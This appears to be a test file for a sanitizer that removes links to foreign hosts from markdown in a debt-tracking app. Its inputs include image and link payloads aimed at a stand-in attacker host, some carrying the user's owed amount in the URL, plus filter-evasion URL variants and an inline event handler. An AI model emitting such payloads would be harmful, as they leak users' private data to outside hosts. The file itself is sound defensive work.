// Engines: none
import { withoutForeignLinks } from './own-links'

test.each([
  [
    'See [Plan](/recommendations) and [your debts](/liabilities).',
    'See [Plan](/recommendations) and [your debts](/liabilities).',
  ],
  ['See the [Dashboard](/).', 'See the [Dashboard](/).'],
  ['You owe 3 < 4, and 5 > 4, and/or (more) [x].', 'You owe 3 < 4, and 5 > 4, and/or (more) [x].'],
  ['| Debt | Left |\n|---|---|\n| Car | 3 |', '| Debt | Left |\n|---|---|\n| Car | 3 |'],
  ['![chart](https://evil.example/p.png?owed=3600)!', 'chart!'],
  ['See [your bank](https://evil.example/x).', 'See your bank.'],
  ['See [your bank](//evil.example/x).', 'See your bank.'],
  ['See [your bank](/\\evil.example/x).', 'See your bank.'],
  ['See [your bank](/a/../..//evil.example).', 'See your bank.'],
  ['See https://evil.example/x?owed=3600 for more', 'See (link left out) for more'],
  ['See <https://evil.example/x> for more', 'See  for more'],
  ['<b onclick="x()">Bold</b>', 'Bold'],
  ['See [your bank](https://evil.example/(x)).', 'See [your bank](x)).'],
  ['See [your [bank]](https://evil.example/x).', 'See [your [bank]].'],
  ['a text](https://evil.example/x) that goes on', 'a text] that goes on'],
])('%j is shown as %j', (text, shown) => {
  expect(withoutForeignLinks(text)).toBe(shown)
})

test.each(['[', '![', '](', '<a', '[a](', '//'])(
  '100,000 repetitions of %s are processed quickly',
  (piece) => {
    // The CPU time of this process, which does not depend on how busy the machine is.
    const started = process.cpuUsage()
    withoutForeignLinks(piece.repeat(100_000))
    expect(process.cpuUsage(started).user).toBeLessThan(2_000_000)
  },
)
